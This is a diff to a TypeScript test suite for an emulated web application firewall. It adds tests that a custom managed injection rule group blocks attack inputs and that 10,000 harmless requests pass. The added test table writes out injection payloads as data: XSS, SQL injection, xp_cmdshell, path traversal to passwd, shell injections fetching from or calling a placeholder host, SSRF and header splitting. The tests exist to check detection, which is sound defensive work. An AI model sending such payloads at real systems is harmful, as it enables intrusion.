@@ -2,14 +2,18 @@
 import { describe, expect, test } from 'vitest'
 import { RateLimiter } from '../rate-limiter.ts'
 import type { InspectedRequest } from '../request.ts'
-import { compileWebAcl } from '../web-acl.ts'
+import { type CompiledWebAcl, compileWebAcl } from '../web-acl.ts'
+import { harmlessRequests } from './harmless.fixture.ts'
 import { managedGroupOf, managedGroups } from './index.ts'
 
 const VISIBILITY = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'm' }
 const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0 Safari/537.36'
 
-const aclOf = (names: readonly string[]) =>
-  compileWebAcl(
+const compiled = new Map<string, CompiledWebAcl>()
+function aclOf(names: readonly string[]): CompiledWebAcl {
+  const known = compiled.get(names.join())
+  if (known) return known
+  const acl = compileWebAcl(
     {
       arn: 'arn',
       name: 'all',
@@ -18,7 +22,7 @@ const aclOf = (names: readonly string[]) =>
       rules: names.map((Name, Priority) => ({
         Name,
         Priority,
-        Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name } },
+        Statement: { ManagedRuleGroupStatement: { VendorName: Name.startsWith('AWS') ? 'AWS' : 'Merlon', Name } },
         OverrideAction: { None: {} },
         VisibilityConfig: VISIBILITY,
       })),
@@ -30,6 +34,9 @@ const aclOf = (names: readonly string[]) =>
       managedRuleGroup: managedGroupOf,
     },
   )
+  compiled.set(names.join(), acl)
+  return acl
+}
 
 const request = (varied: Partial<InspectedRequest> & { readonly agent?: string | null } = {}): InspectedRequest => {
   const { agent = BROWSER, headers = [], ...rest } = varied
@@ -116,6 +123,45 @@ describe('each rule blocks what it is named after', () => {
     expect(ruleOf(`AWSManagedRules${group}RuleSet`, varied)).toBe(rule)
   })
 
+  // Evidence in headers, in encodings, and of families that AWS's groups do not name.
+  test.each<[string, ...Parameters<typeof request>[0][]]>([
+    [
+      'CrossSiteScripting',
+      header('Referer', 'https://x.example/"><svg onload=x()>'),
+      { query: 'a=PHNjcmlwdD5hKCk8L3NjcmlwdD4' },
+    ],
+    ['SQLInjection', header('X-Id', "1' or 1=1--"), { query: 'a=%5Cu0027%20or%201=1--' }],
+    ['DatabaseCode', { query: 'id=password::int' }, form('x=exec master..xp_cmdshell')],
+    ['Script', { query: 'a=top["al"%2B"ert"](1)' }, form('x=alert.call(null,1)')],
+    ['FileAccess', { query: 'f=%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd' }, header('X-Path', '/../../x/conf')],
+    ['ShellCommand', { query: 'c=%3Bwget+x.example' }, form('c=;nc -l 1')],
+    ['WindowsCommand', { query: 'c=for+%25a+in+(a,b)+do+x' }, form('c=|mshta http://x.example')],
+    ['PhpCode', { query: 'c=%24a%281%29' }, form('c=[php]x[/php]')],
+    ['JavaCode', header('Cookie', 'a=com.opensymphony.xwork2'), json({ a: 'java.io.FileOutputStream' })],
+    ['NodeCode', json({ a: '_$$ND_FUNC$$_' }), { query: 'a=process.env' }],
+    ['TemplateExpression', { query: 'a=%7B%7B7*7%7D%7D' }, json({ a: '#{9*9}' })],
+    ['QueryOperator', { query: 'u=*)(|(objectclass=*)' }, json({ u: { $ne: 1 } })],
+    ['DocumentDirective', { query: 'x=!ENTITY' }, form('x=<!--%23exec cmd="ls"-->')],
+    ['ServerAddress', { query: 'u=gopher://x/' }, json({ u: 'http://localhost/' })],
+    ['HeaderLine', { query: 'a=x%0d%0aSet-Cookie:a=1' }, { path: '/a%0aLocation:%20x' }],
+    ['SessionFixation', { query: 'PHPSESSID=abc' }, { query: 'jsessionid=1' }],
+    ['UploadedFileName', header('X-Filename', 'a.php'), header('X_Filename', 'b.jsp')],
+  ])('Merlon: %s', (rule, ...attacks) => {
+    for (const attack of attacks) {
+      const names = aclOf(['MerlonManagedRulesInjectionRuleSet']).evaluate(request(attack), {
+        rates: new RateLimiter(),
+        now: 0,
+        token: {},
+      })
+      expect([rule, names.action, names.labels]).toEqual([
+        rule,
+        'BLOCK',
+        [expect.stringMatching(/^awswaf:managed:merlon:injection:/)],
+      ])
+    }
+    expect(ruleOf('MerlonManagedRulesInjectionRuleSet', attacks[0]!)).toBe(rule)
+  })
+
   test('with the label that AWS gives it', () => {
     expect(evaluated('AWSManagedRulesCommonRuleSet', { query: 'q=%3Cscript%3Ealert(1)' }).labels).toEqual([
       'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
@@ -176,6 +222,15 @@ describe('ordinary traffic passes all groups but that of administrative pages', 
       [],
     ])
   })
+})
+
+test('10,000 requests with prose, names, JSON and code review pass all groups', () => {
+  const all = aclOf(managedGroups.map(({ name }) => name).filter((name) => !/Admin/.test(name)))
+  const context = { rates: new RateLimiter(), now: 0, token: {} }
+  for (const each of harmlessRequests(10_000)) {
+    const { action, groups } = all.evaluate(each, context)
+    expect([action, action === 'ALLOW' || [each, groups.at(-1)?.terminatingRule?.ruleId]]).toEqual(['ALLOW', true])
+  }
 })
 
 test('Names of groups and of their rules are unique, and versions are named', () => {
